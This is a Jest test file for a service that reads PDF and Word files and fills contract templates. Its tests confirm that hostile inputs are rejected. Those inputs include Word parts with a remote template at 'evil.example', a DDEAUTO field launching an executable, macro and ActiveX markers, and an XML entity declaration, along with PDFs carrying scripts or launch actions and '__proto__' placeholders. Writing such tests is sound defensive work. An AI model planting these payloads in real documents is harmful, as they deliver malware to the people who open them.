import { describe, expect, it } from '@jest/globals';
import { PDFName } from '@cantoo/pdf-lib';
import {
  docxOf,
  pdfOf,
  withAttachment,
  withHugePicture,
  withLaunch,
  withScript,
} from '../../../../test/support/document-files.js';
import { fillDocx, placeholdersOf } from './fill-docx.js';
import { readDocx } from './read-docx.js';
import { readPdf } from './read-pdf.js';

const RELATIONSHIP = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';

describe('a PDF', () => {
  it('is read page by page', async () => {
    expect(await readPdf(await pdfOf(['Article 1', 'Article 2']))).toEqual({
      plainText: 'Article 1\n\nArticle 2',
      pages: 2,
    });
  });

  it.each([
    ['has-script', withScript],
    ['has-actions', withLaunch],
    ['has-embedded-files', withAttachment],
    ['image-too-large', withHugePicture],
  ])('that %s is refused', async (fault, harm) => {
    await expect(readPdf(await pdfOf(['x'], harm))).rejects.toMatchObject({ fault });
  });

  it('under a password, cut or invented is refused', async () => {
    const locked = await pdfOf(['secret'], (pdf) => pdf.encrypt({ userPassword: 'a', ownerPassword: 'b' }));
    await expect(readPdf(locked)).rejects.toMatchObject({ fault: 'encrypted' });
    const whole = await pdfOf(['x']);
    await expect(readPdf(whole.subarray(0, 200))).rejects.toMatchObject({ fault: 'damaged' });
    await expect(readPdf(Buffer.from('%PDF-1.7\nnothing'))).rejects.toMatchObject({ fault: 'damaged' });
  });

  it('that opens at a page does no harm', async () => {
    const pdf = await pdfOf(['x'], (made) => {
      made.catalog.set(PDFName.of('OpenAction'), made.context.obj([made.getPage(0).ref, 'Fit']));
    });
    expect(await readPdf(pdf)).toMatchObject({ pages: 1 });
  });
});

describe('a Word file', () => {
  it('is read paragraph by paragraph, without what was deleted', async () => {
    const file = await docxOf(['甲方：江苏', 'a &lt; b'], {
      'word/footer1.xml': '<w:ftr><w:p><w:r><w:t>第 1 页</w:t></w:r></w:p></w:ftr>',
      'docProps/app.xml': '<Properties><Pages>3</Pages></Properties>',
    });
    expect(await readDocx(file)).toEqual({ plainText: '甲方：江苏\na < b\n\n第 1 页', pages: 3 });
    const tracked = await docxOf([], {
      'word/document.xml':
        '<w:document><w:p><w:del><w:r><w:delText>old</w:delText></w:r></w:del><w:r><w:t>new</w:t></w:r></w:p></w:document>',
    });
    expect((await readDocx(tracked)).plainText).toBe('new');
  });

  it.each([
    ['has-macros', { 'word/vbaProject.bin': 'x' }],
    [
      'has-macros',
      { '[Content_Types].xml': '<Types>application/vnd.ms-word.document.macroEnabled.main+xml</Types>' },
    ],
    ['has-embedded-files', { 'word/embeddings/oleObject1.bin': 'x' }],
    ['has-actions', { 'word/activeX/activeX1.xml': '<a/>' }],
    [
      'has-actions',
      {
        'word/_rels/settings.xml.rels': `<Relationships><Relationship Id="r" Type="${RELATIONSHIP}/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>`,
      },
    ],
    [
      'has-actions',
      {
        'word/header1.xml':
          '<w:hdr><w:p><w:r><w:instrText> DDEAUTO c:\\\\x.exe</w:instrText></w:r></w:p></w:hdr>',
      },
    ],
    ['damaged', { 'word/document.xml': '<!DOCTYPE x [<!ENTITY a "b">]><w:document/>' }],
    ['too-many-pages', { 'docProps/app.xml': '<Properties><Pages>9000</Pages></Properties>' }],
  ] as [string, Record<string, string>][])('with what %s is refused', async (fault, parts) => {
    await expect(readDocx(await docxOf(['x'], parts))).rejects.toMatchObject({ fault });
  });
});

describe('a template', () => {
  it('is filled in with words alone', async () => {
    const template = await docxOf(['{{titleZh}} 由 {{partyA}} 与 {{partyB}} 签订']);
    expect(await placeholdersOf(template)).toEqual(['titleZh', 'partyA', 'partyB']);
    const filled = await fillDocx(template, { titleZh: '协议 <b>', partyA: '{{partyB}}', partyB: '乙 & 丙' });
    expect((await readDocx(filled)).plainText).toBe('协议 <b> 由 {{partyB}} 与 乙 & 丙 签订');
  });

  it('with a placeholder that nobody knows names it', async () => {
    const template = await docxOf(['{{constructor}} {{__proto__}} {{a.b}} {{title}}']);
    await expect(fillDocx(template, { title: 'x' })).rejects.toMatchObject({
      code: 'unknown-placeholders',
      names: ['constructor', '__proto__', 'a.b'],
    });
    await expect(fillDocx(await docxOf(['{{title']), { title: 'x' })).rejects.toMatchObject({
      code: 'broken-placeholder',
    });
  });
});
